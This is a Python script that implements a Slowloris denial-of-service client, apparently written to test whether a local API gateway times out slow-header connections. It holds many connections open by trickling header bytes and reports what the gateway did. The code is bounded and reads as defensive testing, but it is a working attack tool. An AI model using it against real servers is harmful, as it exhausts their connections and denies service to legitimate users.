#!/usr/bin/env python3
"""Slowloris client for scripts/flood: N connections from one loopback source address, each
sending a request's headers one byte every INTERVAL seconds and never finishing them; a
connection the server closes is reopened. Bounded: runs for DURATION seconds, then prints
how many connections were opened, refused or closed by the server, and exits."""
import asyncio
import sys

host, port, source, count, duration, interval = (
    sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6]))
PREFIX = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nX-Slow: "
stats = {"opened": 0, "refused_or_closed": 0, "closed_by_server": 0}


async def one(deadline):
    loop = asyncio.get_running_loop()
    while loop.time() < deadline:
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            stats["refused_or_closed"] += 1
            await asyncio.sleep(interval)
            continue
        stats["opened"] += 1
        try:
            writer.write(PREFIX)
            await writer.drain()
            while loop.time() < deadline:
                try:
                    data = await asyncio.wait_for(reader.read(1), timeout=interval)
                except asyncio.TimeoutError:
                    writer.write(b"a")
                    await writer.drain()
                    continue
                # Any answer (408, 400) or end of stream: the gateway gave up on us.
                stats["closed_by_server"] += 1
                break
        except OSError:
            stats["closed_by_server"] += 1
        finally:
            writer.close()
        # Come back at the attacker's own slow pace, not in a hot loop.
        await asyncio.sleep(interval)


async def main():
    deadline = asyncio.get_running_loop().time() + duration
    await asyncio.gather(*(one(deadline) for _ in range(count)))
    print(f"slowloris: {count} connections from {source} for {duration:.0f}s: "
          f"{stats['opened']} opened, {stats['closed_by_server']} closed by the gateway, "
          f"{stats['refused_or_closed']} refused at connect")


asyncio.run(main())
